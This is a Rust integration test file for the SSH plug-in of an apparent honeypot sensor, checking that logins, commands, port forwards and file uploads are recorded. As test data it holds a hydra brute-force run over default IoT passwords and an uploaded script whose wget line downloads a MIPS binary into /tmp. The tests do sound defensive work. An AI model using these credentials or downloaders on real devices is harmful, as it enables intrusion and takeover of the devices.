//! The SSH plug-in against real clients: Debian's OpenSSH client (with sshpass), Python's
//! paramiko and nmap, with every recorded row checked in SQLite. Built with the `ssh` feature
//! (scripts/test-all.sh turns it on).
#![cfg(feature = "ssh")]

mod sensor_common;

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use sensor_common::*;
use testkit::role::RoleProcess;
use testkit::sensor::{plugin, ports};

const TIMEOUT: Duration = Duration::from_secs(60);

/// An SSH instance whose credential policy lets any login in (the policy has its own tests).
fn ssh_plugin(port: u16) -> String {
    format!(
        "{}{}",
        plugin("ssh", "ssh", port, "ssh"),
        testkit::sensor::ANY_LOGIN
    )
}

/// The client options every test uses: no host key checks, no agent, no config file.
fn ssh_options(port: u16) -> String {
    format!(
        "-F /dev/null -p {port} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
         -o LogLevel=ERROR -o ConnectTimeout=10 -o IdentityAgent=none -o NumberOfPasswordPrompts=1"
    )
}

/// Runs `script` with sh, bounded, and returns (exit code, stdout + stderr).
fn run(script: &str) -> (Option<i32>, String) {
    let mut cmd = Command::new("sh");
    cmd.arg("-c").arg(format!("{script} 2>&1"));
    let out = testkit::run_with_timeout(cmd, TIMEOUT);
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
    )
}

/// Runs a Python `script` with the venv's paramiko, bounded; asserts it succeeded and returns
/// its output (stdout + stderr). Fails with the install hint when paramiko is missing.
fn paramiko(script: &str) -> String {
    let python = testkit::venv_bin("python");
    let check = Command::new(&python)
        .args(["-c", "import paramiko"])
        .output()
        .expect("run the venv's python");
    assert!(
        check.status.success(),
        "paramiko is missing from {}: run ./scripts/test-all.sh (it installs it) or: {} -m pip install paramiko",
        python.display(),
        python.display()
    );
    let mut cmd = Command::new(&python);
    cmd.arg("-c").arg(script);
    let out = testkit::run_with_timeout(cmd, TIMEOUT);
    let text =
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{text}");
    text
}

/// The `ssh.command` rows, in order: (input_type, user_input).
fn commands(conn: &rusqlite::Connection) -> Vec<Vec<String>> {
    rows(
        conn,
        "SELECT input_type, user_input FROM ssh WHERE eventType = 'ssh.command' ORDER BY ID",
    )
}

/// A sensor with one SSH instance; its port.
fn ssh_sensor() -> (RoleProcess, u16) {
    let [port] = ports();
    let sensor = RoleProcess::sensor(&bin(), &ssh_plugin(port));
    (sensor, port)
}

fn stop(sensor: RoleProcess) -> (rusqlite::Connection, tempfile::TempDir) {
    let (status, dir) = sensor.terminate_keeping_dir(TIMEOUT);
    assert!(status.success(), "{status}");
    (db(&dir.path().join("sensor.sqlite")), dir)
}

#[test]
fn openssh_password_login_and_exec() {
    require("ssh", "openssh-client");
    require("sshpass", "sshpass");
    let (sensor, port) = ssh_sensor();
    let (code, out) = run(&format!(
        "sshpass -p xc3511 ssh {} -o PreferredAuthentications=password root@127.0.0.1 'uname -a; /bin/busybox ECCHI'",
        ssh_options(port)
    ));
    // The persona's host name, generated per install.
    let persona = std::fs::read_to_string(sensor.dir().join("sensor.persona.toml")).unwrap();
    let hostname = persona
        .lines()
        .find_map(|l| l.strip_prefix("hostname = "))
        .unwrap()
        .trim_matches('"');
    assert!(out.contains(&format!("Linux {hostname} 3.10.14")), "{out}");
    assert!(out.contains("ECCHI: applet not found"), "{out}");
    assert_eq!(
        code,
        Some(127),
        "the exit status of a missing applet: {out}"
    );
    let (conn, dir) = stop(sensor);
    let client = rows(
        &conn,
        "SELECT version, hassh, hassh_algorithms FROM ssh WHERE eventType = 'ssh.client'",
    );
    assert_eq!(client.len(), 1, "{client:?}");
    assert!(client[0][0].starts_with("SSH-2.0-OpenSSH_"), "{client:?}");
    assert_eq!(client[0][1].len(), 32, "{client:?}");
    assert_eq!(client[0][2].split(';').count(), 4, "{client:?}");
    assert_eq!(
        rows(
            &conn,
            "SELECT method, username, password, key_type, key_fingerprint, outcome FROM ssh \
             WHERE eventType = 'ssh.login'"
        ),
        [["password", "root", "xc3511", "NULL", "NULL", "accepted"]]
    );
    assert_eq!(
        commands(&conn),
        [["exec", "uname -a"], ["exec", "/bin/busybox ECCHI"]]
    );
    // The host key was generated beside the database, readable by the sensor only.
    let key = dir.path().join("ssh_host_ecdsa_key");
    let mode =
        std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&key).unwrap().permissions());
    assert_eq!(mode & 0o777, 0o600);
}

#[test]
fn openssh_shell_on_stdin_and_with_a_terminal() {
    require("ssh", "openssh-client");
    require("sshpass", "sshpass");
    let (sensor, port) = ssh_sensor();
    let opts = ssh_options(port);
    // Without a terminal: commands on stdin, as bots pipe them.
    let (_, out) = run(&format!(
        "printf 'cd /tmp; pwd\\nid\\nexit\\n' | sshpass -p admin ssh -T {opts} -o PubkeyAuthentication=no admin@127.0.0.1"
    ));
    assert!(out.contains("/tmp"), "{out}");
    assert!(out.contains("uid=1000(admin)"), "{out}");
    // With a terminal: the prompt and the echo.
    let (_, tty) = run(&format!(
        "(sleep 2; printf 'echo hello\\r'; sleep 1; printf 'exit\\r'; sleep 1) | \
         sshpass -p root ssh -tt {opts} -o PubkeyAuthentication=no root@127.0.0.1"
    ));
    // The persona's firmware, as telnet shows it.
    assert!(
        tty.contains("BusyBox v1.24.1 (2021-06-18 10:42:17 CST)"),
        "{tty}"
    );
    assert!(tty.contains("~ # "), "{tty}");
    assert!(tty.contains("hello"), "{tty}");
    let (conn, _dir) = stop(sensor);
    assert_eq!(
        commands(&conn),
        [
            ["command", "cd /tmp"],
            ["command", "pwd"],
            ["command", "id"],
            ["command", "exit"],
            ["command", "echo hello"],
            ["command", "exit"],
        ]
    );
    assert_eq!(
        count(
            &conn,
            "SELECT COUNT(*) FROM ssh WHERE eventType = 'ssh.login' AND outcome = 'accepted'"
        ),
        2
    );
}

#[test]
fn the_shell_takes_its_time_over_ssh() {
    require("ssh", "openssh-client");
    require("sshpass", "sshpass");
    let (sensor, port) = ssh_sensor();
    let opts = ssh_options(port);
    // `sleep` sleeps over SSH as over telnet, and the channel ends after it, not before.
    let started = std::time::Instant::now();
    let (code, out) = run(&format!(
        "sshpass -p root ssh {opts} -o PreferredAuthentications=password root@127.0.0.1 \
         'echo before; sleep 2; echo after'"
    ));
    let took = started.elapsed();
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("before") && out.contains("after"), "{out}");
    assert!(
        took >= Duration::from_secs(2),
        "sleep 2 returned after {took:?}"
    );
    // A shell on stdin: the output before a wait arrives before it (`ping` prints a reply a
    // second), and `exit` after it still closes the channel.
    let started = std::time::Instant::now();
    let (_, out) = run(&format!(
        "printf 'ping -c 3 192.0.2.1\\nexit\\n' | sshpass -p root ssh -T {opts} \
         -o PreferredAuthentications=password root@127.0.0.1"
    ));
    let took = started.elapsed();
    assert!(out.contains("3 packets transmitted"), "{out}");
    assert!(
        took >= Duration::from_secs(2),
        "ping -c 3 returned after {took:?}"
    );
    let (conn, _dir) = stop(sensor);
    assert_eq!(
        commands(&conn),
        [
            ["exec", "echo before"],
            ["exec", "sleep 2"],
            ["exec", "echo after"],
            ["command", "ping -c 3 192.0.2.1"],
            ["command", "exit"],
        ]
    );
}

#[test]
fn a_client_that_never_reads_its_output_is_bounded() {
    let (sensor, port) = ssh_sensor();
    // paramiko never reads the channel, so its window (1 KiB) never opens again: what the
    // shell prints past the sensor's backlog is discarded, while every command is recorded.
    let script = format!(
        "import paramiko, time\n\
         t = paramiko.Transport(('127.0.0.1', {port}))\n\
         t.connect(username='root', password='root')\n\
         ch = t.open_session(window_size=1024)\n\
         ch.invoke_shell()\n\
         for i in range(300):\n    ch.sendall(b'cat /proc/cpuinfo\\n')\n\
         ch.sendall(b'echo last\\n')\n\
         time.sleep(2)\n\
         t.close()\n"
    );
    paramiko(&script);
    let log = sensor.log();
    let (conn, _dir) = stop(sensor);
    assert_eq!(
        count(
            &conn,
            "SELECT COUNT(*) FROM ssh WHERE eventType = 'ssh.command' AND user_input = 'cat /proc/cpuinfo'"
        ),
        300
    );
    assert_eq!(
        count(
            &conn,
            "SELECT COUNT(*) FROM ssh WHERE eventType = 'ssh.command' AND user_input = 'echo last'"
        ),
        1
    );
    assert!(log.contains("did not read its output"), "{log}");
}

#[test]
fn hydra_reveals_the_policys_share_of_its_list_then_gets_in() {
    let [port] = ports();
    let body = format!(
        "{}[plugin.options.credentials]\naccept_after = [3, 5]\n",
        plugin("ssh", "ssh", port, "ssh")
    );
    let sensor = RoleProcess::sensor(&bin(), &body);
    let passwords = [
        "123456", "password", "admin", "root", "12345", "default", "xc3511", "vizxv", "888888",
        "xmhdipc", "juantech", "54321", "support", "user", "guest",
    ];
    let found = hydra_root(&format!("ssh://127.0.0.1:{port}"), &passwords);
    let (conn, _dir) = stop(sensor);
    let attempts = rows(
        &conn,
        "SELECT username, password, outcome FROM ssh WHERE eventType = 'ssh.login' ORDER BY ID",
    );
    // Every attempt recorded, as hydra sent it: refusals, 3 to 5 of them (the policy's draw),
    // then the accepted login, the last, and the password hydra reports.
    let last = attempts.len() - 1;
    assert!((3..=5).contains(&last), "{attempts:?}");
    for attempt in &attempts[..last] {
        assert_eq!(attempt[0], "root", "{attempts:?}");
        assert!(passwords.contains(&attempt[1].as_str()), "{attempts:?}");
        assert_eq!(attempt[2], "refused", "{attempts:?}");
    }
    assert_eq!(attempts[last][2], "accepted", "{attempts:?}");
    assert_eq!(attempts[last][1], found, "{attempts:?}");
}

/// A refused password may be tried again on the same connection, as a device's daemon allows:
/// OpenSSH's client, password method only, three prompts answered by an askpass program with
/// three different passwords, gets in on the third. (russh's default takes `password` off the
/// methods it lists after a refusal, so the client stopped after one: "Permission denied
/// (publickey,keyboard-interactive)", a list no Dropbear sends.)
#[test]
fn a_refused_password_may_be_tried_again_on_the_same_connection() {
    require("ssh", "openssh-client");
    let [port] = ports();
    let body = format!(
        "{}[plugin.options.credentials]\naccept_after = [2, 2]\n",
        plugin("ssh", "ssh", port, "ssh")
    );
    let sensor = RoleProcess::sensor(&bin(), &body);
    let dir = tempfile::tempdir().unwrap();
    let askpass = dir.path().join("askpass.sh");
    std::fs::write(
        &askpass,
        "#!/bin/sh\nd=$(dirname \"$0\"); n=$(cat \"$d/n\" 2>/dev/null || echo 0); n=$((n+1))\n\
         echo $n > \"$d/n\"\ncase $n in 1) echo first ;; 2) echo second ;; *) echo third ;; esac\n",
    )
    .unwrap();
    std::fs::set_permissions(
        &askpass,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let (code, text) = run(&format!(
        "SSH_ASKPASS={} SSH_ASKPASS_REQUIRE=force DISPLAY=:0 ssh {} -o PubkeyAuthentication=no \
         -o KbdInteractiveAuthentication=no -o NumberOfPasswordPrompts=3 root@127.0.0.1 \
         'echo in' < /dev/null",
        askpass.display(),
        ssh_options(port).replace("-o NumberOfPasswordPrompts=1", "")
    ));
    assert_eq!(code, Some(0), "{text}");
    assert!(text.contains("in"), "{text}");
    let (conn, _dir) = stop(sensor);
    assert_eq!(
        rows(
            &conn,
            "SELECT method, password, outcome FROM ssh WHERE eventType = 'ssh.login' ORDER BY ID"
        ),
        [
            ["password", "first", "refused"],
            ["password", "second", "refused"],
            ["password", "third", "accepted"]
        ]
    );
    // All on one connection.
    assert_eq!(
        rows(
            &conn,
            "SELECT COUNT(*) FROM ssh WHERE eventType = 'ssh.client'"
        ),
        [["1"]]
    );
}

#[test]
fn forwards_are_recorded_and_refused() {
    require("ssh", "openssh-client");
    require("sshpass", "sshpass");
    let (sensor, port) = ssh_sensor();
    let opts = ssh_options(port);
    let [unused] = ports();
    // -W opens a direct-tcpip channel at once.
    let (code, out) = run(&format!(
        "sshpass -p root ssh {opts} -o PubkeyAuthentication=no -W 203.0.113.9:80 root@127.0.0.1 </dev/null"
    ));
    assert_ne!(code, Some(0), "{out}");
    assert!(out.contains("stdio forwarding failed"), "{out}");
    // -L: the channel opens when something connects to the local port.
    let forward = format!(
        "sshpass -p root ssh {opts} -o PubkeyAuthentication=no -N -o ExitOnForwardFailure=yes \
         -L 127.0.0.1:{unused}:198.51.100.7:25 root@127.0.0.1 & pid=$!; \
         for i in 1 2 3 4 5 6 7 8 9 10; do sleep 0.5; \
           (exec 3<>/dev/tcp/127.0.0.1/{unused}) 2>/dev/null && break; done; \
         sleep 1; kill $pid; wait $pid; true"
    );
    let _ = run(&format!("bash -c '{forward}'"));
    // -R asks the server to listen (tcpip-forward; OpenSSH names the address "localhost"): refused.
    let (code, out) = run(&format!(
        "sshpass -p root ssh {opts} -o PubkeyAuthentication=no -N -o ExitOnForwardFailure=yes \
         -R 8080:127.0.0.1:80 root@127.0.0.1 </dev/null"
    ));
    assert_ne!(code, Some(0), "{out}");
    let (conn, _dir) = stop(sensor);
    let forwards = rows(
        &conn,
        "SELECT kind, host, port, originator IS NOT NULL, refused FROM ssh \
         WHERE eventType = 'ssh.forward' ORDER BY ID",
    );
    assert_eq!(
        forwards,
        [
            ["direct-tcpip", "203.0.113.9", "80", "1", "1"],
            ["direct-tcpip", "198.51.100.7", "25", "1", "1"],
            ["tcpip-forward", "localhost", "8080", "0", "1"],
        ],
        "{forwards:?}"
    );
}

#[test]
fn public_key_attempt_then_password() {
    require("ssh", "openssh-client");
    require("sshpass", "sshpass");
    let keygen = require("ssh-keygen", "openssh-client");
    let (sensor, port) = ssh_sensor();
    let keys = tempfile::tempdir().unwrap();
    let key = keys.path().join("id_ed25519");
    let (code, out) = run(&format!(
        "{} -q -t ed25519 -N '' -C test -f {}",
        keygen.display(),
        key.display()
    ));
    assert_eq!(code, Some(0), "{out}");
    let (_, fingerprint) = run(&format!(
        "{} -l -E sha256 -f {}.pub",
        keygen.display(),
        key.display()
    ));
    let fingerprint = fingerprint.split_whitespace().nth(1).unwrap().to_owned();
    // An empty password is refused (OpenSSH asks with keyboard-interactive when it may); then a
    // key, then a password.
    let (code, out) = run(&format!(
        "sshpass -p '' ssh {} -o PubkeyAuthentication=no root@127.0.0.1 true",
        ssh_options(port)
    ));
    assert_ne!(code, Some(0), "{out}");
    let (code, out) = run(&format!(
        "sshpass -p 12345 ssh {} -i {} -o IdentitiesOnly=yes \
         -o PreferredAuthentications=publickey,password root@127.0.0.1 'echo in'",
        ssh_options(port),
        key.display()
    ));
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("in"), "{out}");
    let (conn, _dir) = stop(sensor);
    assert_eq!(
        rows(
            &conn,
            "SELECT method, username, password, key_type, key_fingerprint, outcome FROM ssh \
             WHERE eventType = 'ssh.login' ORDER BY ID"
        ),
        [
            [
                "keyboard-interactive",
                "root",
                "",
                "NULL",
                "NULL",
                "refused"
            ],
            [
                "publickey",
                "root",
                "NULL",
                "ssh-ed25519",
                &fingerprint,
                "refused"
            ],
            ["password", "root", "12345", "NULL", "NULL", "accepted"],
        ]
    );
}

#[test]
fn paramiko_password_login_and_exec() {
    let (sensor, port) = ssh_sensor();
    let script = format!(
        "import paramiko\n\
         c = paramiko.SSHClient()\n\
         c.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n\
         c.connect('127.0.0.1', port={port}, username='admin', password='admin123', \
         look_for_keys=False, allow_agent=False, timeout=10)\n\
         _, out, _ = c.exec_command('cat /proc/version', timeout=10)\n\
         print(out.read().decode(), out.channel.recv_exit_status())\n\
         print(c.get_transport().remote_version)\n\
         c.close()\n"
    );
    let text = paramiko(&script);
    assert!(text.contains("Linux version 3.10.14"), "{text}");
    assert!(text.contains("SSH-2.0-dropbear_2020.81"), "{text}");
    let (conn, _dir) = stop(sensor);
    assert_eq!(
        rows(
            &conn,
            "SELECT method, username, password, outcome FROM ssh WHERE eventType = 'ssh.login'"
        ),
        [["password", "admin", "admin123", "accepted"]]
    );
    assert_eq!(commands(&conn), [["exec", "cat /proc/version"]]);
    let version = rows(
        &conn,
        "SELECT version FROM ssh WHERE eventType = 'ssh.client'",
    );
    assert!(
        version[0][0].starts_with("SSH-2.0-paramiko_"),
        "{version:?}"
    );
}

#[test]
fn nmap_names_dropbear() {
    let nmap = require("nmap", "nmap");
    let (sensor, port) = ssh_sensor();
    let (_, out) = run(&format!(
        "{} -sV -Pn -n -p {port} 127.0.0.1",
        nmap.display()
    ));
    assert!(out.contains("Dropbear sshd 2020.81"), "{out}");
    let (conn, _dir) = stop(sensor);
    assert!(count(&conn, "SELECT COUNT(*) FROM sessions") >= 1);
    let _ = Path::new(".");
}

#[test]
fn scp_upload_is_recorded_as_a_written_file() {
    require("scp", "openssh-client");
    require("sshpass", "sshpass");
    let (sensor, port) = ssh_sensor();
    let files = tempfile::tempdir().unwrap();
    let payload = files.path().join("x.sh");
    std::fs::write(
        &payload,
        "#!/bin/sh\nwget http://203.0.113.9/bins/mips -O /tmp/m\n",
    )
    .unwrap();
    // -O: the legacy scp protocol (`scp -t` on the server), what bots and older clients use.
    let (code, out) = run(&format!(
        "sshpass -p root scp -O {} -o PreferredAuthentications=password {} root@127.0.0.1:/tmp/",
        ssh_options(port).replace("-p ", "-P "),
        payload.display()
    ));
    assert_eq!(code, Some(0), "{out}");
    let (conn, _dir) = stop(sensor);
    let (_, sha) = run(&format!("sha256sum {}", payload.display()));
    let sha = sha.split_whitespace().next().unwrap().to_owned();
    assert_eq!(
        rows(
            &conn,
            "SELECT path, size, sha256, truncated, via FROM files"
        ),
        [["/tmp/x.sh", "54", &sha, "0", "scp"]]
    );
    // The bytes themselves, in the store's files table.
    let data = rows(&conn, "SELECT CAST(data AS TEXT) FROM files");
    assert_eq!(
        data[0][0],
        "#!/bin/sh\nwget http://203.0.113.9/bins/mips -O /tmp/m\n"
    );
    assert_eq!(commands(&conn), [["exec", "scp -t /tmp/"]]);
}

#[test]
fn public_key_offers_are_bounded_per_connection() {
    require("ssh", "openssh-client");
    let keygen = require("ssh-keygen", "openssh-client");
    let [port] = ports();
    let body = ssh_plugin(port) + "[plugin.options]\nmax_auth_attempts = 3\n";
    let sensor = RoleProcess::sensor(&bin(), &body);
    let keys = tempfile::tempdir().unwrap();
    let mut identities = String::new();
    for i in 0..5 {
        let key = keys.path().join(format!("k{i}"));
        let (code, out) = run(&format!(
            "{} -q -t ed25519 -N '' -C k{i} -f {}",
            keygen.display(),
            key.display()
        ));
        assert_eq!(code, Some(0), "{out}");
        identities.push_str(&format!(" -i {}", key.display()));
    }
    let (code, out) = run(&format!(
        "ssh {} -o BatchMode=yes -o IdentitiesOnly=yes -o PreferredAuthentications=publickey{identities} root@127.0.0.1 true",
        ssh_options(port)
    ));
    assert_ne!(code, Some(0), "{out}");
    let (conn, _dir) = stop(sensor);
    assert_eq!(
        count(
            &conn,
            "SELECT COUNT(*) FROM ssh WHERE eventType = 'ssh.login' AND method = 'publickey'"
        ),
        2,
        "three attempts (the client's first `none` request is one), then the client is cut off"
    );
}

#[test]
fn the_sensor_limits_hold_over_ssh() {
    require("ssh", "openssh-client");
    require("sshpass", "sshpass");
    let [port] = ports();
    let body = format!(
        "[limits]\nidle_timeout_secs = 2\nmax_session_bytes = 16384\n{}",
        ssh_plugin(port)
    );
    let sensor = RoleProcess::sensor(&bin(), &body);
    let opts = ssh_options(port);
    // A shell left idle is closed by the sensor, not by the client.
    let (_, out) = run(&format!(
        "sleep 6 | sshpass -p root ssh -tt {opts} -o PreferredAuthentications=password root@127.0.0.1"
    ));
    assert!(out.contains("~ # "), "{out}");
    assert!(out.contains("closed by remote host"), "{out}");
    // More than the session's byte budget on a shell's stdin.
    let (_, _) = run(&format!(
        "head -c 40000 /dev/zero | tr '\\0' 'a' | sshpass -p root ssh -T {opts} \
         -o PreferredAuthentications=password root@127.0.0.1"
    ));
    let (conn, _dir) = stop(sensor);
    assert_eq!(
        rows(&conn, "SELECT closeReason FROM sessions ORDER BY rowid"),
        [["idle timeout"], ["session byte limit"]]
    );
}

#[test]
fn sftp_uploads_are_recorded_as_written_files() {
    require("scp", "openssh-client");
    let sftp = require("sftp", "openssh-client");
    require("sshpass", "sshpass");
    let (sensor, port) = ssh_sensor();
    let files = tempfile::tempdir().unwrap();
    let payload = files.path().join("bot");
    let bytes: Vec<u8> = (0..100_000u32).map(|i| (i % 251) as u8).collect();
    std::fs::write(&payload, &bytes).unwrap();
    let opts = ssh_options(port).replace("-p ", "-P ");
    // OpenSSH 9's scp speaks SFTP unless told -O.
    let (code, out) = run(&format!(
        "sshpass -p root scp {opts} -o PreferredAuthentications=password {} root@127.0.0.1:/tmp/",
        payload.display()
    ));
    assert_eq!(code, Some(0), "{out}");
    let batch = files.path().join("batch");
    std::fs::write(&batch, format!("put {} /var/tmp/b2\n", payload.display())).unwrap();
    let (code, out) = run(&format!(
        // -b implies BatchMode (no password prompt) unless told otherwise.
        "sshpass -p root {} {opts} -o PreferredAuthentications=password -o BatchMode=no -b {} root@127.0.0.1",
        sftp.display(),
        batch.display()
    ));
    assert_eq!(code, Some(0), "{out}");
    let (conn, _dir) = stop(sensor);
    let (_, sha) = run(&format!("sha256sum {}", payload.display()));
    let sha = sha.split_whitespace().next().unwrap().to_owned();
    assert_eq!(
        rows(
            &conn,
            "SELECT path, size, sha256, truncated, via, length(data) FROM files ORDER BY ID"
        ),
        [
            ["/tmp/bot", "100000", &sha, "1", "sftp", "65536"],
            ["/var/tmp/b2", "100000", &sha, "1", "sftp", "65536"],
        ]
    );
}

#[test]
fn a_client_that_is_not_ssh_is_kept_raw() {
    let (sensor, port) = ssh_sensor();
    let mut s = connect(port);
    let banner = read_until(&mut s, b"\r\n");
    assert_eq!(banner, b"SSH-2.0-dropbear_2020.81\r\n");
    send(&mut s, b"GET / HTTP/1.0\r\n\r\n");
    let _ = read_to_close(&mut s);
    let (conn, _dir) = stop(sensor);
    assert_eq!(
        rows(&conn, "SELECT reason, length, bytes FROM rawInput"),
        [["not SSH", "18", "GET / HTTP/1.0\\r\\n\\r\\n"]]
    );
}

/// What russh refuses before the plug-in's handler sees it is still recorded: a password that
/// is not UTF-8 (a Latin-1 word list) and a client with no key exchange in common.
#[test]
fn a_login_russh_cannot_decode_and_a_client_without_common_algorithms_are_recorded() {
    let (sensor, port) = ssh_sensor();
    let script = format!(
        "import paramiko, socket\n\
         t = paramiko.Transport(('127.0.0.1', {port}))\n\
         t.start_client(timeout=10)\n\
         try:\n\
         \x20   t.auth_password('root', b'caf\\xe9-\\xff')\n\
         \x20   print('accepted')\n\
         except Exception as e:\n\
         \x20   print('refused', type(e).__name__)\n\
         t.close()\n\
         t = paramiko.Transport(('127.0.0.1', {port}))\n\
         t.get_security_options().kex = ['diffie-hellman-group16-sha512']\n\
         try:\n\
         \x20   t.start_client(timeout=10)\n\
         \x20   print('kex done')\n\
         except Exception as e:\n\
         \x20   print('kex refused', type(e).__name__)\n\
         t.close()\n"
    );
    let text = paramiko(&script);
    assert!(text.contains("refused"), "{text}");
    assert!(text.contains("kex refused"), "{text}");
    let (conn, _dir) = stop(sensor);
    let reasons: Vec<String> = rows(&conn, "SELECT reason FROM rawInput ORDER BY ID")
        .into_iter()
        .map(|r| r[0].clone())
        .collect();
    assert_eq!(reasons.len(), 2, "{reasons:?}");
    assert!(
        reasons
            .iter()
            .all(|r| r.starts_with("ssh protocol error: ")),
        "{reasons:?}"
    );
    assert!(
        reasons
            .iter()
            .any(|r| r.contains("diffie-hellman-group16-sha512")),
        "the client's offer is quoted: {reasons:?}"
    );
    // The two clients' sessions are recorded as any other.
    assert_eq!(
        rows(
            &conn,
            "SELECT COUNT(*) FROM ssh WHERE eventType = 'ssh.client'"
        ),
        [["2"]]
    );
}

#[test]
fn the_shipped_config_runs_ssh_on_8022() {
    let shipped = testkit::workspace_root().join("configs/sensor.toml");
    let out = std::process::Command::new(bin())
        .args(["check-config"])
        .arg(&shipped)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("4 enabled instances"), "{text}");
    assert!(
        text.lines()
            .any(|l| l.split_whitespace().skip(1).collect::<Vec<_>>()
                == ["ssh", "kind=ssh", "port=8022", "table=ssh"]),
        "{text}"
    );
}
